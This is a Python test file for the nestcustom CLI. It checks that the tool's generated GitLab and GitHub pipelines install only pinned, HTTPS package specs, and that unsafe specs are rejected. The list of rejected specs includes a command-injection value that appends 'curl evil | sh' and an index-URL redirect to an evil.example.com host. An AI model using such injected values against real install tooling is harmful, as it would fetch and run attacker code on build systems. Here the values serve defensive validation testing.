"""`nestcustom init --install SPEC`: the pipelines install nestcustom from PyPI, a pinned git
ref or a wheel URL, and nothing unpinned or unencrypted."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from nestcustom import __version__
from tests.gitops.helpers import nestcustom

GIT = "git+https://git.example.com/tools/nestcustom.git@v0.1.0"
WHEEL = "https://artifacts.example.com/pypi/nestcustom-0.1.0-py3-none-any.whl#sha256=" + "ab" * 32


def pip_installs(repo: Path) -> set[str]:
    """What each pipeline's install steps hand to pip, with the variables filled in."""
    found = set()
    gitlab = yaml.safe_load((repo / ".gitlab-ci.yml").read_text())
    github = yaml.safe_load((repo / ".github/workflows/nestcustom.yml").read_text())
    for variables, text in (
        (gitlab["variables"], (repo / ".gitlab-ci.yml").read_text()),
        (github["env"], (repo / ".github/workflows/nestcustom.yml").read_text()),
    ):
        assert variables["NESTCUSTOM_VERSION"] == __version__
        assert "$NESTCUSTOM_INSTALL" in text or "${NESTCUSTOM_INSTALL}" in text
        found.add(variables["NESTCUSTOM_INSTALL"])
    return found


@pytest.mark.parametrize("spec", [None, GIT, WHEEL, f"nestcustom @ {GIT}"])
def test_the_pipelines_install_what_init_was_told(tmp_path: Path, spec: str | None) -> None:
    args = ["init", str(tmp_path / "images")] + (["--install", spec] if spec else [])
    done = nestcustom(*args, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    wanted = spec or f"nestcustom=={__version__}"
    assert pip_installs(tmp_path / "images") == {wanted}
    readme = (tmp_path / "images" / "README.md").read_text()
    assert f'pip install "{wanted}"' in readme
    for pipeline, schema in (
        (".github/workflows/nestcustom.yml", "vendor.github-workflows"),
        (".gitlab-ci.yml", "vendor.gitlab-ci"),
    ):
        check = [str(Path(sys.executable).parent / "check-jsonschema"), "--builtin-schema", schema]
        checked = subprocess.run(
            [*check, str(tmp_path / "images" / pipeline)], capture_output=True, text=True
        )
        assert checked.returncode == 0, checked.stdout + checked.stderr


@pytest.mark.parametrize(
    "spec",
    [
        "nestcustom",  # unpinned: whatever PyPI has that day
        "nestcustom>=0.1",
        "git+https://git.example.com/tools/nestcustom.git",  # no ref
        "git+http://git.example.com/tools/nestcustom.git@v0.1.0",  # plain http
        "http://artifacts.example.com/nestcustom-0.1.0-py3-none-any.whl",
        "https://artifacts.example.com/other-0.1.0-py3-none-any.whl",
        'nestcustom==0.1.0"; curl evil | sh; "',
        "nestcustom==0.1.0 --index-url https://evil.example.com/",
    ],
)
def test_an_unpinned_or_unsafe_install_is_refused(tmp_path: Path, spec: str) -> None:
    done = nestcustom("init", str(tmp_path / "images"), "--install", spec, cwd=tmp_path)
    assert done.returncode == 2
    assert f"--install {spec!r} is not a pinned nestcustom" in done.stderr
    assert "hint: give nestcustom==" in done.stderr
    assert not (tmp_path / "images").exists()
